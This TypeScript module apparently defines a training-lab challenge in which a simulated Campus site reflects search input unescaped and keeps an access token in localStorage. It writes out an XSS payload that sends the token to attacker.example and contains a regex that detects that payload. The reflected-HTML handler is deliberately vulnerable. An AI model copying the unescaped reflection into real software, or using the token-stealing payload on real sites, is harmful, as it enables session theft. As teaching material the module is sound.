// A page of Campus with a hole for scripts, and an access token in the browser's store. The sandbox runs no script: it knows
// the one line that everybody writes first, and does what a browser would do with it.
import type { Opened, World } from '@/lib/lab/challenge'
import { CAMPUS } from '@/lib/lab/world/campus'
import { courseApi, noteRead } from '@/lib/lab/world/course-api'
import { escapeHtml, page, routes } from '@/lib/lab/world/http'
import { accessToken, API, verify } from '@/lib/lab/world/jwt'

/** `fetch('https://attacker.example/?t=' + localStorage.token)`, also as a member by name or by getItem. */
const SCRIPT =
  /<script>\s*(?:void |await )?fetch\(\s*(['"`])(https:\/\/[^'"`\s]+)\1\s*\+\s*localStorage(?:\.|\[|\.getItem\()['"]?(\w+)['"]?[\])]?\s*\)\s*;?\s*<\/script>/i

export function open(world: World): Opened {
  const api = courseApi((token) => verify(token, world))
  const held = accessToken(world, { sub: 'alice', aud: API, client_id: 'campus-web' })
  /** In memory, a script that was injected finds nothing in the store. */
  const store: Record<string, string> = world.guarded ? {} : { token: held }
  const site = routes({
    'GET /search': async ({ query, request }) => {
      const words = query.get('q') ?? ''
      // In Alice's browser, where she is signed in, the script of this page runs.
      const isVictims = request.headers.get('cookie')?.includes('session=alice') ?? false
      const [, , target = '', name = ''] = SCRIPT.exec(words) ?? []
      if (isVictims && URL.canParse(target))
        await world.call('victim', new Request(`${target}${encodeURIComponent(store[name] ?? 'undefined')}`))
      return new Response(`<!doctype html>\n<title>Search</title>\n<p>Nothing found for ${words}</p>\n`, {
        headers: { 'content-type': 'text/html; charset=utf-8' },
      })
    },
    'GET /app.js': () =>
      new Response(
        world.guarded
          ? 'let token // kept here, and nowhere else\n'
          : `// after the sign-in\nlocalStorage.setItem('token', answer.access_token)\n`,
        { headers: { 'content-type': 'text/javascript' } },
      ),
    'GET /': () => page('Campus', escapeHtml('Search the courses at /search?q=…')),
  })
  return {
    hosts: { [CAMPUS]: site, [API]: api.host },
    cookies: [{ actor: 'victim', origin: CAMPUS, name: 'session', value: 'alice' }],
    isWon: () => api.wasRead('alice'),
    victim: () => [{ label: 'Signed in at Campus as', value: 'Alice' }, ...noteRead(api.wasRead('alice'))],
  }
}
